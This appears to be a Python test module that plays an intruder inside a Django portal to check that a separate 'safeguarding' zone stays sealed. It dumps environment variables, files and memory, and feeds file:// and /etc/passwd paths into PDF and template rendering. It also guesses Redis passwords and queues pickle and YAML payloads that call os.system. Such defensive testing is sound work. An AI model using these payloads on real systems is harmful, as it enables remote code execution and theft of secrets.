"""Techniques on the machine: files, logs, Redis and queues, the code in the process itself."""

import base64
import gc
import io
import json
import os
import pickle
import subprocess
import sys
import time
import uuid
from pathlib import Path
from urllib.parse import quote, urlsplit

import redis
from django.apps import apps
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import DatabaseError
from django.template import Context, Template, TemplateDoesNotExist, TemplateSyntaxError
from django.urls import NoReverseMatch

from referral_portal.common import pdf
from tests.patience import A_MINUTE
from tests.proofs.stolen.loot import Loot
from tests.proofs.stolen.scoring import BACKUP, Find

ROOT = Path(__file__).resolve().parent.parent.parent.parent
MOST_BYTES = 5_000_000


class _Payload:
    """What a queue that unpickles would run."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return os.system, (f"env > {self.path}",)


def read_the_environment(loot: Loot, find: Find) -> None:
    find.text(json.dumps(loot.secrets))
    find.text(json.dumps(dict(os.environ)))


def read_every_file(loot: Loot, find: Find) -> None:
    for file in loot.files():
        if file.name != BACKUP:
            find.text(file.read_bytes()[:MOST_BYTES])


def read_logs_and_messages(loot: Loot, find: Find) -> None:
    for file in loot.files():
        if file.suffix in {".log", ".eml", ".txt"} and file.name != BACKUP:
            for line in file.read_text(errors="replace").splitlines():
                find.text(line)


def look_through_memory(loot: Loot, find: Find) -> None:
    for thing in gc.get_objects():
        if type(thing) is dict:
            for value in list(thing.values()):
                if type(value) is str and "canary" in value[:MOST_BYTES].lower():
                    find.text(value)


def ask_the_code_for_the_far_sides_models(loot: Loot, find: Find) -> None:
    for model in apps.get_models():
        if model._meta.app_label in {"safeguarding", "sealing"}:
            for alias in settings.DATABASES:
                try:
                    for row in model._base_manager.using(alias).values():
                        find.row(model._meta.db_table, row)
                except DatabaseError as refusal:
                    find.refusals.append(str(refusal).splitlines()[0])


def let_the_code_open_envelopes(loot: Loot, find: Find) -> None:
    """The opener's own command, here and in processes that say they are another zone."""
    zones = {
        "portal": {},
        "safeguarding": {"SAFEGUARDING_DATABASE_URL": loot.address},
        "all": {"SAFEGUARDING_DATABASE_URL": loot.address, "DEBUG": "1"},
    }
    for zone, extra in zones.items():
        env = {**os.environ, "PORTAL_ZONE": zone, "EMAIL_URL": "none:", **extra}
        done = subprocess.run(
            [sys.executable, "manage.py", "open_envelopes"], cwd=ROOT, env=env,
            capture_output=True, text=True, timeout=A_MINUTE, check=False,
        )  # fmt: skip
        find.text(done.stdout)
        find.refusals.append(f"{zone}: {(done.stderr.strip().splitlines() or ['done'])[-1]}")


def dump_data(loot: Loot, find: Find) -> None:
    for label in ("sealing", "referrals", "outbox", "audit", "accounts", "safeguarding"):
        try:
            call_command("dumpdata", label, stdout=(said := io.StringIO()))
            find.text(said.getvalue())
        except (CommandError, DatabaseError) as refusal:
            find.refusals.append(str(refusal).splitlines()[0])


def draw_a_letter_with_files_in_it(loot: Loot, find: Find) -> None:
    secrets = Path(os.environ.get("SECRET_KEY_FILE", "/run/secrets/x")).parent
    for address in (
        (secrets / "sealing_private_key").as_uri(), "file:///etc/passwd",
        "http://127.0.0.1:1/", "asset:../sealing_private_key", "asset:/etc/passwd",
    ):  # fmt: skip
        for page in ('<img src="{}">', '<link rel="attachment" href="{}">',
                     '<link rel="stylesheet" href="{}">', "<style>@import url('{}')</style>"):  # fmt: skip
            try:
                find.text(pdf.draw_html(page.format(address)))
            except (pdf.FetchRefused, pdf.DocumentsUnavailable, ValueError) as refusal:
                find.refusals.append(str(refusal))


def draw_a_template_with_files_in_it(loot: Loot, find: Find) -> None:
    for words in ("{% include '/run/secrets/sealing_private_key' %}", "{% debug %}",
                  "{% load cache %}{{ settings }}",
                  "{% extends '/etc/passwd' %}", "{% include 'safeguarding/case.html' %}"):  # fmt: skip
        try:
            find.text(Template(words).render(Context({"settings": settings})))
        except (OSError, NoReverseMatch, TemplateDoesNotExist, TemplateSyntaxError,
                KeyError, TypeError) as refusal:  # fmt: skip
            find.refusals.append(type(refusal).__name__)


def read_redis(loot: Loot, find: Find) -> None:
    store = _redis(loot.secrets.get("REDIS_URL", ""))
    if not store:
        find.refusals.append("no Redis here")
        return
    for key in store.scan_iter(count=1000):
        kind = store.type(key)
        read = {b"string": store.get, b"list": lambda k: store.lrange(k, 0, -1),
                b"set": store.smembers, b"hash": store.hgetall,
                b"zset": lambda k: store.zrange(k, 0, -1)}.get(kind)  # fmt: skip
        find.text(f"{key} {read(key) if read else ''}")


def command_redis(loot: Loot, find: Find) -> None:
    store = _redis(loot.secrets.get("REDIS_URL", ""))
    for words in ("CONFIG GET *", "MONITOR", "CLIENT LIST", "DEBUG OBJECT x", "SLOWLOG GET",
                  "ACL LIST", "SAVE", "MODULE LIST", "EVAL return(1) 0"):  # fmt: skip
        _command(store, find, words)


def _command(store, find: Find, words: str) -> None:
    if store:
        try:
            find.text(str(store.execute_command(*words.split())))
        except redis.RedisError as refusal:
            find.refusals.append(str(refusal))


def read_the_far_sides_redis(loot: Loot, find: Find) -> None:
    if not loot.far_redis:
        find.refusals.append("no other Redis")
        return
    own = urlsplit(loot.secrets.get("REDIS_URL", ""))
    for name in ("", "default", "portal", "safeguarding"):
        for word in [own.password or "", *loot.words[:10]]:
            store = _redis(f"redis://{name}:{quote(word, safe='')}@{loot.far_redis}/0")
            _command(store, find, "KEYS *")


def queue_work_for_the_far_side(loot: Loot, find: Find):
    """Its tasks, others' tasks and pickled code, on every queue of every Redis we can write to."""
    path = Path("/tmp") / f"ran-{uuid.uuid4()}"
    code = pickle.dumps(_Payload(str(path)))
    store = _redis(loot.secrets.get("REDIS_URL", ""))
    bodies = [
        ("application/x-python-serialize", base64.b64encode(code).decode(), "safeguarding.tick"),
        ("application/json", _json([[], {}, {}]), "safeguarding.tick"),
        ("application/json", _json([["os.system('id')"], {}, {}]), "celery.accumulate"),
        ("application/x-yaml", base64.b64encode(b"!!python/object/apply:os.system [id]").decode(),
         "outbox.drain"),
    ]  # fmt: skip
    if store:
        for queue in ("safeguarding", "portal", "celery"):
            for kind, body, task in bodies:
                store.lpush(queue, _message(queue, kind, body, task))
    yield
    if path.exists():
        find.text(path.read_text())
        raise AssertionError("A worker ran what stood in its queue.")
    find.refusals.append("nothing ran")
    if store:
        find.text(str([store.lrange(queue, 0, -1) for queue in ("safeguarding", "celery")]))
        store.delete("safeguarding", "celery")


def _json(value) -> str:
    return base64.b64encode(json.dumps(value).encode()).decode()


def _message(queue: str, kind: str, body: str, task: str) -> str:
    key = str(uuid.uuid4())
    return json.dumps(
        {
            "body": body, "content-encoding": "utf-8", "content-type": kind,
            "headers": {"task": task, "id": key, "lang": "py", "argsrepr": "()"},
            "properties": {
                "correlation_id": key, "delivery_mode": 2, "delivery_tag": key, "priority": 0,
                "delivery_info": {"exchange": queue, "routing_key": queue},
                "body_encoding": "base64", "reply_to": "x",
            },
        }
    )  # fmt: skip


def _redis(address: str):
    if not address.startswith("redis"):
        return None
    return redis.Redis.from_url(address, socket_timeout=A_MINUTE, socket_connect_timeout=A_MINUTE)


def files_beside_our_own(loot: Loot, find: Find) -> None:
    """Where a container has nothing: the places of the far side's secrets and volumes."""
    for name in ("sealing_private_key", "safeguarding_database_url", "opener_database_url"):
        for folder in ("/run/secrets", loot.folder, settings.VAR_DIR, "/srv", "/tmp"):
            file = Path(folder) / name
            if file.exists():
                find.text(file.read_text())
            else:
                find.refusals.append("no such file")


def how_old_the_process_and_its_files_are(loot: Loot, find: Find) -> None:
    for file in loot.files():
        facts = file.stat()
        find.text(f"{file} {facts.st_size} {facts.st_mtime} {time.time()}")
